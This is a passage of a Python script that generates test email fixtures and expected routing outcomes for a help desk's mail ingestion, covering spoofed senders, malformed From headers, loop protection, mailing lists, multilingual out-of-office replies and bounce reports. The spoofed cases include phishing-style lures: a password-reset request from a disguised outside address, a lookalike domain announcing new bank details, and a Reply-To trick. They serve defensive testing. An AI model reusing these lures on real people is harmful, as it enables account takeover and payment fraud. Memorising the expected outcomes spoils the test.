    add(f, r, "appended", "Reply on A that will be delivered again", ticket="A")
    add(
        "duplicates/dup-04b.eml",
        r.replace(
            "Delivered-To: support@desk.example\n",
            "Delivered-To: support@desk.example\nX-Resent-By: imapsync\n",
            1,
        ),
        "duplicate",
        "Redelivery of the same reply (same Message-ID, one extra header)",
        ticket="A",
    )


def spoofed_folder() -> None:
    f = "spoofed/outsider-irt-a.eml"
    add(
        f,
        thunderbird(
            f,
            MALLORY,
            f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "Please send me the restore download link for FS01.\n",
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
        ),
        "held",
        "Outsider replies with a valid id for A",
        ticket="A",
        reason="sender",
    )

    f = "spoofed/other-company-user-a.eml"
    add(
        f,
        gmail(
            f,
            GINA,
            f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "Oops, I think this was forwarded to me by mistake. Same problem here though!\n\nGina\n",
            workspace=True,
        ),
        "held",
        "A Globex user replies on Initech's ticket via subject token",
        ticket="A",
        reason="sender",
    )

    f = "spoofed/other-partner-b.eml"
    add(
        f,
        outlook(
            f,
            CARL,
            f"RE: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "Hi, can we take this one over?\n\nCarl\nContoso MSP\n",
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
        ),
        "held",
        "Technician of a different partner replies on B",
        ticket="B",
        reason="sender",
    )

    f = "spoofed/partner-on-direct-a.eml"
    add(
        f,
        outlook(
            f,
            NORA,
            f"RE: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "Northwind here - saw this thread, we can help Initech.\n" + SIG["nora"],
        ),
        "held",
        "Partner technician replies on a ticket of a direct company (not their customer)",
        ticket="A",
        reason="sender",
    )

    f = "spoofed/display-name-a.eml"
    add(
        f,
        thunderbird(
            f,
            ("Ivan Initech <ivan@initech.example>", "ivan.initech@evil.example"),
            f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "Please reset my portal password and send it here.\n\nIvan\n",
            irt=msgid_ref("A"),
        ),
        "held",
        "Display name contains the requester's address, real address is outside",
        ticket="A",
        reason="sender",
    )

    f = "spoofed/lookalike-b.eml"
    add(
        f,
        apple(
            f,
            ("Alice Acme", "alice@acme-example.com"),
            f"Re: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "New bank details for the renewal invoice attached soon.\n\nAlice\n",
            refs=msgid_ref("B"),
            iphone=True,
        ),
        "held",
        "Lookalike domain (acme-example.com) with a valid References id for B",
        ticket="B",
        reason="sender",
    )

    f = "spoofed/reply-to-trick-a.eml"
    add(
        f,
        thunderbird(
            f,
            MALLORY,
            f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "Forwarding for Ivan, he asked me to.\n",
            extra=[("Reply-To", addr(IVAN)), ("Sender", addr(IVAN))],
        ),
        "held",
        "From is an outsider; Reply-To and Sender claim the requester (From decides)",
        ticket="A",
        reason="sender",
    )

    f = "spoofed/forged-id-outsider.eml"
    add(
        f,
        thunderbird(
            f,
            MALLORY,
            "Re: backup status",
            "What is the status of the FS01 backups?\n",
            irt="<{{FORGED_MSGID_A}}>",
            refs="<{{FORGED_MSGID_A}}>",
        ),
        "created",
        "Outsider with a forged id and no token: not threaded, so a new ticket in the catch-all company",
    )


def senders_folder() -> None:
    f = "senders/no-from.eml"
    add(
        f,
        plain_mua(
            f,
            ("", ""),
            "Backup report",
            ["Nightly report: 12 jobs ok, 1 failed."],
            mailer="",
            msgid=True,
        ).replace("User-Agent: \n", ""),
        "quarantined",
        "No From header at all",
        reason="sender",
    )

    f = "senders/group-from.eml"
    add(
        f,
        plain_mua(
            f,
            ("", ""),
            "Restore question",
            ["Hello, how do I restore a VM?"],
            mailer="",
            headers=[("From", "undisclosed-recipients:;")],
        ).replace("User-Agent: \n", ""),
        "quarantined",
        "From is an empty group (undisclosed-recipients:;), no address",
        reason="sender",
    )

    f = "senders/name-only-from.eml"
    add(
        f,
        plain_mua(
            f,
            ("", ""),
            "Agent install",
            ["Hi, the agent install fails."],
            mailer="",
            headers=[("From", "Ivan Initech")],
        ).replace("User-Agent: \n", ""),
        "quarantined",
        "From holds a display name and no address",
        reason="sender",
    )

    f = "senders/empty-angle-from.eml"
    add(
        f,
        plain_mua(
            f,
            ("", ""),
            "Cloud replication",
            ["Replication is paused."],
            mailer="",
            headers=[("From", "Backup Server <>")],
        ).replace("User-Agent: \n", ""),
        "quarantined",
        "From is 'Backup Server <>' (null address)",
        reason="sender",
    )

    f = "senders/garbage-from.eml"
    add(
        f,
        plain_mua(
            f,
            ("", ""),
            "Appliance storage",
            ["Storage warning from our tool."],
            mailer="",
            headers=[("From", "@@@ not an address @@@")],
        ).replace("User-Agent: \n", ""),
        "quarantined",
        "From is unparseable garbage",
        reason="sender",
    )

    f = "senders/newhire-domain.eml"
    add(
        f,
        thunderbird(
            f,
            ("Pat Newcomer", "pat.newcomer@initech.example"),
            "Access to the backup portal",
            "Hi,\n\nI joined Initech IT this week; how do I get access to the portal?\n\nPat\n",
        ),
        "created",
        "Unknown person at a company domain (initech.example) is mapped to Initech",
    )

    f = "senders/unknown-catchall.eml"
    add(
        f,
        thunderbird(
            f,
            ("Olga Stranger", "olga@stranger-things.example"),
            "Do you support Proxmox?",
            "Hello, does your agent support Proxmox VE 8 guests?\n\nOlga\n",
        ),
        "created",
        "Unknown sender at an unknown domain goes to the catch-all company",
    )

    f = "senders/uppercase-requester.eml"
    add(
        f,
        thunderbird(
            f,
            ("IVAN INITECH", "IVAN@INITECH.EXAMPLE"),
            f"RE: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "SORRY FOR CAPS, MY PHONE. JOB OK TONIGHT.\n",
            irt=msgid_ref("A"),
        ),
        "appended",
        "Requester's address in upper case matches case-insensitively",
        ticket="A",
    )

    # loop series: identical subject + body from one sender, minutes apart
    base = tick()
    for i in range(4):
        f = f"senders/loop-0{i + 1}.eml"
        dt = base + timedelta(minutes=4 * i, seconds=3 * i)
        m = plain_mua(
            f,
            ("Backup Monitor", "monitor@looping-corp.example"),
            "Backup job FS01 failed",
            ["Job FS01-Daily failed with error 0x800423F4.", "Please investigate."],
            dt=dt,
            mailer="",
        )
        m = m.replace("User-Agent: \n", "")
        if i == 0:
            add(
                f,
                m,
                "created",
                "First of four identical mails (same sender, subject, body) within minutes",
                eol="\n",
            )
        else:
            add(
                f,
                m,
                "held",
                f"Identical repeat #{i + 1} within the hour (new Message-ID): loop protection",
                reason="loop",
                eol="\n",
            )


def lists_folder() -> None:
    f = "lists/mailman3-01.eml"
    add(
        f,
        thunderbird(
            f,
            ("Dave Admin", "dave@university.example"),
            "[backup-users] Restore speed from cloud tier?",
            "Hi all,\n\nWhat restore speeds do you see from the cloud tier? We get 20 MB/s.\n\nDave\n"
            "_______________________________________________\nbackup-users mailing list -- backup-users@lists.example.org\n"
            "To unsubscribe send an email to backup-users-leave@lists.example.org\n",
            extra=[
                ("Message-ID-Hash", an(f, 32).upper()),
                ("X-Message-ID-Hash", an(f, 32).upper()),
                ("X-Mailman-Version", "3.3.9"),
                ("Precedence", "list"),
                ("List-Id", "Backup users discussion <backup-users.lists.example.org>"),
                (
                    "Archived-At",
                    f"<https://lists.example.org/archives/list/backup-users@lists.example.org/message/{an(f, 32).upper()}/>",
                ),
                (
                    "List-Archive",
                    "<https://lists.example.org/archives/list/backup-users@lists.example.org/>",
                ),
                ("List-Help", "<mailto:backup-users-request@lists.example.org?subject=help>"),
                ("List-Owner", "<mailto:backup-users-owner@lists.example.org>"),
                ("List-Post", "<mailto:backup-users@lists.example.org>"),
                ("List-Subscribe", "<mailto:backup-users-join@lists.example.org>"),
                ("List-Unsubscribe", "<mailto:backup-users-leave@lists.example.org>"),
            ],
        ),
        "auto-reply",
        "Mailman 3 list post (List-Id, Precedence: list)",
    )

    f = "lists/google-groups-01.eml"
    add(
        f,
        gmail(
            f,
            ("Tech at Northwind", "tech@northwind.example"),
            "Weekly backup check-list",
            "Team, reminder to verify the Acme and Globex restore tests this week.\n\nNora\n",
            to=[("it-team", "it-team@northwind.example")],
            workspace=True,
            extra=[
                ("X-Original-Sender", "tech@northwind.example"),
                (
                    "X-Original-Authentication-Results",
                    "mx.google.com; dkim=pass header.i=@northwind.example",
                ),
                ("Precedence", "list"),
                (
                    "Mailing-list",
                    "list it-team@northwind.example; contact it-team+owners@northwind.example",
                ),
                ("List-ID", "<it-team.northwind.example>"),
                ("X-Google-Group-Id", str(num(f, 10**11, 10**12))),
                (
                    "List-Post",
                    "<https://groups.google.com/a/northwind.example/group/it-team/post>, <mailto:it-team@northwind.example>",
                ),
                (
                    "List-Help",
                    "<https://support.google.com/a/northwind.example/bin/topic.py?topic=25838>, <mailto:it-team+help@northwind.example>",
                ),
                ("List-Archive", "<https://groups.google.com/a/northwind.example/group/it-team/>"),
                (
                    "List-Unsubscribe",
                    "<mailto:googlegroups-manage+"
                    + str(num(f, 10**11, 10**12))
                    + "+unsubscribe@googlegroups.com>",
                ),
            ],
        ),
        "auto-reply",
        "Google Group the support address is a member of; sender is a known partner tech",
    )

    f = "lists/github-01.eml"
    add(
        f,
        thunderbird(
            f,
            ("ci-bot", "notifications@github.com"),
            "[infrascale/backup-agent] Nightly build failed (PR #1422)",
            "The nightly build on main failed.\n\n-- \nReply to this email directly or view it on GitHub:\n"
            "https://github.com/infrascale/backup-agent/pull/1422#issuecomment-2931337001\n"
            "You are receiving this because you are subscribed to this thread.\n",
            to=[("infrascale/backup-agent", "backup-agent@noreply.github.com")],
            cc=[("", "support@desk.example")],
            extra=[
                ("List-ID", "infrascale/backup-agent <backup-agent.infrascale.github.com>"),
                ("List-Archive", "https://github.com/infrascale/backup-agent"),
                (
                    "List-Unsubscribe",
                    "<mailto:unsub+ABCDEF@reply.github.com>, <https://github.com/notifications/unsubscribe/ABCDEF>",
                ),
                ("X-GitHub-Sender", "ci-bot"),
                ("X-GitHub-Recipient", "infrascale-support"),
                ("X-GitHub-Reason", "subscribed"),
                ("Precedence", "list"),
                ("X-Auto-Response-Suppress", "All"),
            ],
        ),
        "auto-reply",
        "GitHub notification (List-ID, Precedence: list)",
    )

    f = "lists/mailchimp-01.eml"
    add(
        f,
        html_only(
            f,
            ("Storage Weekly", "news@storage-weekly.example"),
            "This week: 5 ways to cut backup windows",
            html_doc(
                "<h1>Storage Weekly</h1><p>Five ways to cut your backup window...</p>"
                '<p><a href="https://storage-weekly.us21.list-manage.com/unsubscribe?u=abc&id=def">Unsubscribe</a></p>'
            ),
            mailer="Mailchimp Mailer - **CIDa1b2c3d4e5f6**",
        ).replace(
            "MIME-Version: 1.0\n",
            "MIME-Version: 1.0\nList-Id: 8f1c2e3d4b5a69788796a5b4cmc list <8f1c2e3d4b5a69788796a5b4c.{}.list-id.mcsv.net>\n"
            "List-Unsubscribe: <https://storage-weekly.us21.list-manage.com/unsubscribe?u=abc&id=def>, <mailto:unsubscribe-mc.us21_abc.def@mailin.mcsv.net>\n"
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click\nPrecedence: bulk\nX-Campaign: mailchimp8f1c2e3d.c7a1\n".replace(
                "{}", str(num(f, 100000, 999999))
            ),
            1,
        ),
        "auto-reply",
        "Mailchimp newsletter (List-Id, List-Unsubscribe, Precedence: bulk)",
    )

    f = "lists/sympa-01.eml"
    add(
        f,
        thunderbird(
            f,
            ("Eva Sympa", "eva@uni-lyon.example"),
            "[sauvegarde] Retour d'exp\u00e9rience agent Linux",
            "Bonjour \u00e0 tous,\n\nQuelqu'un utilise l'agent Linux sur RHEL 9 ?\n\nEva\n",
            to=[("", "sauvegarde@listes.uni-lyon.example")],
            extra=[
                ("List-Id", "<sauvegarde.listes.uni-lyon.example>"),
                ("Precedence", "list"),
                ("X-Loop", "sauvegarde@listes.uni-lyon.example"),
                ("X-Sequence", "1187"),
                ("List-Post", "<mailto:sauvegarde@listes.uni-lyon.example>"),
                (
                    "List-Unsubscribe",
                    "<mailto:sympa@listes.uni-lyon.example?subject=unsubscribe%20sauvegarde>",
                ),
            ],
        ),
        "auto-reply",
        "Sympa list post, French, 8bit UTF-8",
    )

    f = "lists/listserv-01.eml"
    add(
        f,
        plain_mua(
            f,
            ("Backup discussion list", "BACKUP-L@LISTSERV.STATE.EXAMPLE"),
            "Re: Tape vs appliance",
            [
                "We moved off tape in 2019 and never looked back.",
                "",
                "--",
                "To unsubscribe: SIGNOFF BACKUP-L",
            ],
            headers=[
                ("Sender", "Backup discussion list <BACKUP-L@LISTSERV.STATE.EXAMPLE>"),
                ("Reply-To", "Backup discussion list <BACKUP-L@LISTSERV.STATE.EXAMPLE>"),
                ("Precedence", "list"),
                ("List-Id", "<BACKUP-L.LISTSERV.STATE.EXAMPLE>"),
            ],
            mailer="",
            ctype='text/plain; charset="us-ascii"',
        ).replace("User-Agent: \n", ""),
        "auto-reply",
        "L-Soft LISTSERV style post (Sender is the list)",
    )

    f = "lists/digest-01.eml"
    b = "===============" + str(num(f, 10**18, 10**19)) + "=="
    d1 = Leaf(
        [("Content-Type", "message/rfc822")],
        "Date: Mon, 2 Jun 2025 08:00:00 +0200\nFrom: dave@university.example\nSubject: Restore speed\nMessage-ID: <d1@university.example>\n\nWe get 20 MB/s.\n",
    )
    d2 = Leaf(
        [("Content-Type", "message/rfc822")],
        "Date: Mon, 2 Jun 2025 09:00:00 +0200\nFrom: eve@college.example\nSubject: Re: Restore speed\nMessage-ID: <d2@college.example>\n\n80 MB/s here.\n",
    )
    node = Multi(
        [("Content-Type", f'multipart/mixed; boundary="{b}"')],
        b,
        [
            Leaf(
                [
                    ("Content-Type", 'text/plain; charset="us-ascii"'),
                    ("Content-Description", "backup-users digest, Vol 12, Issue 3"),
                ],
                "Today's Topics:\n\n   1. Restore speed (dave)\n   2. Re: Restore speed (eve)\n",
            ),
            Multi([("Content-Type", f'multipart/digest; boundary="{b}d"')], b + "d", [d1, d2]),
        ],
    )
    add(
        f,
        raw_mail(
            f,
            ("", "backup-users-request@lists.example.org"),
            "backup-users Digest, Vol 12, Issue 3",
            node,
            mailer="",
            extra=[
                ("X-Mailman-Version", "2.1.39"),
                ("Precedence", "list"),
                ("List-Id", "Backup users <backup-users.lists.example.org>"),
                ("X-BeenThere", "backup-users@lists.example.org"),
            ],
        ),
        "auto-reply",
        "Mailman 2 MIME digest (multipart/digest of message/rfc822)",
    )

    f = "lists/thread-a-01.eml"
    add(
        f,
        gmail(
            f,
            IVAN,
            f"Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "FYI team - support is looking at it.\n\nIvan\n" + ack_quote_gmail("A"),
            to=[("itops", "itops@initech.example")],
            cc=[("", "support@desk.example")],
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
            workspace=True,
            extra=[
                ("Precedence", "list"),
                ("List-ID", "<itops.initech.example>"),
                (
                    "Mailing-list",
                    "list itops@initech.example; contact itops+owners@initech.example",
                ),
                ("X-Original-Sender", "ivan@initech.example"),
            ],
        ),
        "auto-reply",
        "Requester's reply on A redistributed through a Google Group that includes support: list mail wins, linked to A",
        ticket="A",
    )


def ooo_folder() -> None:
    EXO = [("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Inbox-Rules-Loop", "")]

    f = "ooo/exchange-en-a.eml"
    add(
        f,
        outlook(
            f,
            IVAN,
            f"Automatic reply: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            "I am out of the office until Monday 9 June with limited access to email.\n"
            "For urgent backup issues please call the Initech service desk.\n",
            irt=msgid_ref("A"),
            refs=msgid_ref("A"),
            extra=[("Auto-Submitted", "auto-replied")]
            + [(k, v or "ivan@initech.example") for k, v in EXO],
        ),
        "auto-reply",
        "Exchange Online OOF, 'Automatic reply:', Auto-Submitted, X-Auto-Response-Suppress, threads to A",
        ticket="A",
    )

    f = "ooo/exchange-de-b.eml"
    add(
        f,
        outlook(
            f,
            ALICE,
            "Automatische Antwort: [{{NUMBER_B}}] " + ACK_SUBJ["B"],
            "Vielen Dank f\u00fcr Ihre Nachricht. Ich bin bis zum 10.06. nicht im B\u00fcro.\n",
            irt=msgid_ref("B"),
            charset="iso-8859-1",
            lang="de-DE",
            extra=[(k, v or "alice@acme.example") for k, v in EXO],
        ),
        "auto-reply",
        "German Exchange OOF without Auto-Submitted: only X-Auto-Response-Suppress and the subject",
        ticket="B",
    )

    f = "ooo/exchange-fr.eml"
    add(
        f,
        outlook(
            f,
            ("Claire Martin", "claire@fr-partner.example"),
            "R\u00e9ponse automatique\u00a0: Invitation webinar sauvegarde",
            "Je suis absente jusqu'au 16 juin. En cas d'urgence, contactez le support.\n",
            irt=foreign_id(f),
            lang="fr-FR",
            extra=[("Auto-Submitted", "auto-generated")]
            + [(k, v or "claire@fr-partner.example") for k, v in EXO],
        ),
        "auto-reply",
        "French Exchange OOF with a non-breaking space before the colon",
    )

    f = "ooo/exchange-es.eml"
    add(
        f,
        outlook(
            f,
            ("Luis Torres", "luis@es-partner.example"),
            "Respuesta autom\u00e1tica: Renovaci\u00f3n de licencia",
            "Estar\u00e9 fuera de la oficina hasta el lunes.\n",
            lang="es-ES",
            extra=[("Auto-Submitted", "auto-replied")]
            + [(k, v or "luis@es-partner.example") for k, v in EXO],
        ),
        "auto-reply",
        "Spanish Exchange OOF",
    )

    f = "ooo/gmail-vacation-b.eml"
    add(
        f,
        gmail(
            f,
            ALICE,
            f"Re: [{{{{NUMBER_B}}}}] {ACK_SUBJ['B']}",
            "Hi, I'm on vacation until June 12 and will reply when I'm back.\nAlice\n",
            irt=msgid_ref("B"),
            refs=msgid_ref("B"),
            workspace=True,
            extra=[("Auto-Submitted", "auto-replied")],
        ),
        "auto-reply",
        "Gmail vacation responder: 'Re:' subject, only Auto-Submitted marks it",
        ticket="B",
    )

    f = "ooo/dutch-x-autoreply.eml"
    add(
        f,
        plain_mua(
            f,
            ("Pieter de Vries", "pieter@nl-partner.example"),
            "Afwezig: Uw aanvraag",
            ["Ik ben afwezig tot en met 13 juni.", "Voor dringende zaken: bel 020-5550100."],
            headers=[("X-Autoreply", "yes")],
            mailer="Horde Application Framework 5",
        ),
        "auto-reply",
        "Dutch autoresponder marked only by X-Autoreply: yes",
    )

    f = "ooo/japanese-autorespond.eml"
    add(
        f,
        plain_mua(
            f,
            ("Tanaka Hiroshi", "tanaka@jp-reseller.example"),
            ew("\u4e0d\u5728\u306e\u304a\u77e5\u3089\u305b", "ISO-2022-JP", "B", 10),
            [],
            headers=[("X-Autorespond", "yes")],
            ctype="text/plain; charset=ISO-2022-JP",
            cte="7bit",
            body="\u305f\u3060\u3044\u307e\u5916\u51fa\u4e2d\u3067\u3059\u30026\u670816\u65e5\u306b\u623b\u308a\u307e\u3059\u3002\n".encode(
                "iso2022_jp"
            ).decode("latin-1"),
            mailer="",
        ),
        "auto-reply",
        "Japanese ISO-2022-JP auto reply marked by X-Autorespond",
    )

    f = "ooo/zimbra.eml"
    add(
        f,
        html_only(
            f,
            ("Marco Rossi", "marco@it-partner.example"),
            "Risposta automatica: Re: manutenzione appliance",
            html_doc("<p>Sono fuori ufficio fino al 9 giugno.</p>"),
        ).replace(
            "MIME-Version: 1.0\n",
            "MIME-Version: 1.0\nAuto-Submitted: auto-replied (zimbra; vacation)\nPrecedence: bulk\n",
            1,
        ),
        "auto-reply",
        "Zimbra vacation reply, Italian, Auto-Submitted with a comment and Precedence: bulk",
    )

    f = "ooo/subject-only.eml"
    add(
        f,
        plain_mua(
            f,
            ("Hans Vogel", "hans@de-partner.example"),
            "Out of Office: Agent install",
            ["I am out of the office until 10 June.", "Regards, Hans"],
            mailer="Lotus Notes Release 9.0.1 FP10",
        ),
        "auto-reply",
        "Old client: 'Out of Office:' subject is the only hint",
    )

    f = "ooo/precedence-auto-reply-pt.eml"
    add(
        f,
        plain_mua(
            f,
            ("Jo\u00e3o Silva", "joao@pt-partner.example"),
            ew("Resposta autom\u00e1tica: F\u00e9rias", "UTF-8", "Q", 40),
            ["Estou de f\u00e9rias at\u00e9 dia 20.".encode("utf-8").decode("latin-1")],
            headers=[("Precedence", "auto_reply")],
            ctype="text/plain; charset=UTF-8",
            cte="8bit",
            mailer="",
        ),
        "auto-reply",
        "Portuguese, marked by Precedence: auto_reply",
    )

    f = "ooo/helpdesk-ack-01.eml"
    add(
        f,
        html_only(
            f,
            ("Initech Service Desk", "servicedesk@initech.example"),
            "[#12345] Request received: Backup job fails",
            html_doc(
                "<p>Your request <b>#12345</b> has been received by the Initech Service Desk.</p>"
            ),
        ).replace(
            "MIME-Version: 1.0\n",
            "MIME-Version: 1.0\nAuto-Submitted: auto-generated\nX-Ticket-ID: 12345\n",
            1,
        ),
        "auto-reply",
        "Another help desk's automatic ack ([#12345], Auto-Submitted: auto-generated): must not loop",
    )

    f = "ooo/helpdesk-ack-02-a.eml"
    add(
        f,
        plain_mua(
            f,
            ("Globex Helpdesk", "helpdesk@globex.example"),
            f"[#98211] Re: [{{{{NUMBER_A}}}}] {ACK_SUBJ['A']}",
            [
                "Thank you, your message was added to ticket #98211.",
                "This is an automated message.",
            ],
            headers=[
                ("Auto-Submitted", "auto-generated"),
                ("In-Reply-To", msgid_ref("A")),
                ("X-Mailer", "Freshdesk"),
            ],
            mailer="",
        ),
        "auto-reply",
        "Help desk ack threading to A (auto-generated wins over the sender check)",
        ticket="A",
    )

    f = "ooo/appliance-alert.eml"
    add(
        f,
        plain_mua(
            f,
            ("IDR Appliance", "idr01@initech.example"),
            "Backup job 'FS-Daily' failed on FS01",
            ["Job: FS-Daily", "Host: FS01", "Status: Failed", "Error: VSS_E_WRITERERROR_TIMEOUT"],
            headers=[
                ("Auto-Submitted", "auto-generated"),
                ("X-Mailer", "IDR Appliance Notifier 7.4"),
            ],
            mailer="",
        ),
        "auto-reply",
        "A customer's appliance sends alerts straight to support (auto-generated): no ticket",
    )

    f = "ooo/polish-ooo.eml"
    add(
        f,
        outlook(
            f,
            ("Piotr Nowak", "piotr@acme.example"),
            "Odpowied\u017a automatyczna: [{{NUMBER_B}}] " + ACK_SUBJ["B"],
            "Jestem na urlopie do 11 czerwca.\n",
            refs=msgid_ref("B"),
            lang="pl-PL",
            charset="iso-8859-2",
            subject_raw=ew("Odpowied\u017a automatyczna:", "iso-8859-2", "Q", 40)
            + " [{{NUMBER_B}}] "
            + ACK_SUBJ["B"],
            topic=ACK_SUBJ["B"],
            extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All")],
        ),
        "auto-reply",
        "Polish OOF, iso-8859-2, threads to B via References",
        ticket="B",
    )


def original(
    kind: str,
    t: str | None = None,
    seed: str = "",
    forged: bool = False,
    noid: bool = False,
    to=None,
) -> tuple[list, str]:
    """The bounced original: our ack for A/B, a forged-id copy, or a foreign message."""
    if t:
        h = our_ack_headers(t, msgid="{{FORGED_MSGID_A}}" if forged else None, to=to)
        return h, our_ack_body(t)
    h = [
        (
            "Received",
            f"from app1.desk.example (app1.desk.example [10.20.0.11])\n\tby mx1.desk.example (Postfix) with ESMTP id {qid(seed + 'o')}",
        ),
        ("From", "Infrascale Support <support@desk.example>"),
        ("To", to[1] if to else "old-contact@unknown-corp.example"),
        ("Subject", "Your survey results"),
        ("Date", "Sun, 1 Jun 2025 18:00:00 +0000"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=us-ascii"),
    ]
    if not noid:
        h.append(("Message-ID", f"<{hx(seed + 'orig', 20)}@mailer.desk.example>"))
    return h, "Thank you for rating our support.\n"


def dsn_report(
    file,
    *,
    frm_h,
    subject,
    human,
    mta,
    rcpts,
    orig,
    orig_kind="message/rfc822",
    html=None,
    ret_path="<>",
    relay=None,
    extra=(),
    msgid_dom=None,
    boundary=None,
    sender_ip=None,
    ds_extra=(),
):
    dt = tick()
    relay = relay or mta
    b = boundary or f"{hx(file, 12).upper()}.{int(dt.timestamp())}/{mta}"
    human_leaf = Leaf(
        [("Content-Description", "Notification"), ("Content-Type", "text/plain; charset=us-ascii")],
        human,
    )
    if html:
        hb = b + "_alt"
        human_node = Multi(
            [
                (
                    "Content-Type",
                    f'multipart/alternative; differences=Content-Type;\n\tboundary="{hb}"',
                )
            ],
            hb,
            [
                Leaf(
                    [
                        ("Content-Type", 'text/plain; charset="us-ascii"'),
                        ("Content-Transfer-Encoding", "quoted-printable"),
                    ],
                    qp(human, "us-ascii"),
                ),
                Leaf(
                    [
                        ("Content-Type", 'text/html; charset="us-ascii"'),
                        ("Content-Transfer-Encoding", "quoted-printable"),
                    ],
                    qp(html, "us-ascii"),
                ),
            ],
        )
    else:
        human_node = human_leaf
    ds = (
        f"Reporting-MTA: dns; {mta}\n"
        + "".join(f"{k}: {v}\n" for k, v in ds_extra)
        + f"Arrival-Date: {rfcdate(dt - timedelta(minutes=3), 0)}\n"
    )
    for r, action, status, diag, remote in rcpts:
        ds += f"\nFinal-Recipient: rfc822; {r}\nOriginal-Recipient: rfc822;{r}\nAction: {action}\nStatus: {status}\n"
        if remote:
            ds += f"Remote-MTA: dns; {remote}\n"
        if diag:
            ds += f"Diagnostic-Code: smtp; {diag}\n"
    parts = [
        human_node,
        Leaf(
            [
                ("Content-Description", "Delivery report"),
                ("Content-Type", "message/delivery-status"),
            ],
            ds,
        ),
    ]
    if orig is not None:
        oh, ob = orig
        if orig_kind == "message/rfc822":
            parts.append(
                Leaf(
                    [
                        ("Content-Description", "Undelivered Message"),
                        ("Content-Type", "message/rfc822"),
                    ],
                    render_headers(oh) + "\n" + ob,
                )
            )
        else:
            parts.append(
                Leaf(
                    [
                        ("Content-Description", "Undelivered Message Headers"),
                        ("Content-Type", "text/rfc822-headers"),
                    ],
                    render_headers(oh),
                )
            )
    node = Multi(
        [("Content-Type", f'multipart/report; report-type=delivery-status;\n\tboundary="{b}"')],
        b,
        parts,
        preamble="This is a MIME-encapsulated message.\n\n",
    )
    top = delivery_top(file, "", dt)
    top[0] = ("Return-Path", ret_path)
    top += [mx_received(file, relay, sender_ip or f"198.51.100.{num(file, 2, 250)}", dt)]
    top += list(extra)
    top += [
        ("Date", rfcdate(dt, 0)),
        ("From", frm_h),
        ("Subject", subject),
        ("To", "support@desk.example"),
        ("Auto-Submitted", "auto-replied"),
        ("Message-Id", f"<{hx(file + 'dsn', 16)}@{msgid_dom or mta}>"),
        ("MIME-Version", "1.0"),
        ("__MIME__", ""),
    ]
    return message(top, node)


def nonstd_bounce(
    file,
    *,
    frm_h,
    subject,
    body,
    relay,
    extra=(),
    ret_path="<>",
    ctype="text/plain; charset=us-ascii",
):
    dt = tick()
    top = delivery_top(file, "", dt)
    top[0] = ("Return-Path", ret_path)
    top += [mx_received(file, relay, f"203.0.113.{num(file, 2, 250)}", dt)] + list(extra)
    top += [
        ("Date", rfcdate(dt, 0)),
        ("From", frm_h),
        ("To", "support@desk.example"),
        ("Subject", subject),
        ("Message-ID", f"<{hx(file + 'nb', 20)}@{relay}>"),
        ("MIME-Version", "1.0"),
        ("Content-Type", ctype),
    ]
    return render_headers(top) + "\n" + body


def quoted_original(oh, ob, prefix=""):
    return (
        "".join(f"{prefix}{k}: {v}\n".replace("\n\t", "\n" + prefix + "\t") for k, v in oh)
        + prefix
        + "\n"
        + "".join(prefix + x + "\n" for x in ob.rstrip("\n").split("\n"))
    )


def dsn_folder() -> None:
    PF = "Mail Delivery System <MAILER-DAEMON@mail.initech.example>"
    pf_human = (
        "This is the mail system at host {host}.\n\nI'm sorry to have to inform you that your message could not\n"
        "be delivered to one or more recipients. It's attached below.\n\nFor further assistance, please send mail to postmaster.\n\n"
        "If you do so, please include this problem report. You can\ndelete your own text from the attached returned message.\n\n"
        "                   The mail system\n\n<{rcpt}>: {diag}\n"
    )

    f = "dsn/postfix-rfc822-a.eml"
    d = "host mail.initech.example[198.51.100.25] said: 550 5.1.1 <ivan@initech.example>: Recipient address rejected: User unknown in virtual mailbox table (in reply to RCPT TO command)"
    add(
        f,
        dsn_report(
            f,
            frm_h=PF,
            subject="Undelivered Mail Returned to Sender",
            mta="mail.initech.example",
            human=pf_human.format(host="mail.initech.example", rcpt="ivan@initech.example", diag=d),
            rcpts=[
                (
                    "ivan@initech.example",
                    "failed",
                    "5.1.1",
                    d.split(" said: ")[1].split(" (in reply")[0],
                    "mail.initech.example",
                )
            ],
            orig=original("message/rfc822", "A"),
            ds_extra=[
                ("X-Postfix-Queue-ID", "4bK2mQ0x7Lz3"),
                ("X-Postfix-Sender", "rfc822; support@desk.example"),
            ],
        ),
        "bounce",
        "Postfix RFC 3464 DSN with the full original (our ack for A) as message/rfc822",
        ticket="A",
    )

    f = "dsn/postfix-headers-b.eml"
    d = "host mx.acme.example[192.0.2.44] said: 552 5.2.2 <alice@acme.example>: Mailbox full (in reply to RCPT TO command)"
    add(
        f,
        dsn_report(
            f,
            frm_h="Mail Delivery System <MAILER-DAEMON@mx.acme.example>",
            subject="Undelivered Mail Returned to Sender",
            mta="mx.acme.example",
            human=pf_human.format(host="mx.acme.example", rcpt="alice@acme.example", diag=d),
            rcpts=[
                (
                    "alice@acme.example",
                    "failed",
                    "5.2.2",
                    "552 5.2.2 <alice@acme.example>: Mailbox full",
                    "mx.acme.example",
                )
            ],
            orig=original("h", "B"),
            orig_kind="text/rfc822-headers",
        ),
        "bounce",
        "Postfix DSN carrying only text/rfc822-headers of our ack for B",
        ticket="B",
    )

    f = "dsn/postfix-delayed-a.eml"
    d = "connect to mail.initech.example[198.51.100.25]:25: Connection timed out"
    add(
        f,
        dsn_report(
            f,
            frm_h="Mail Delivery System <MAILER-DAEMON@relay.desk.example>",
            subject="Delayed Mail (still being retried)",
            mta="relay.desk.example",
            human=(
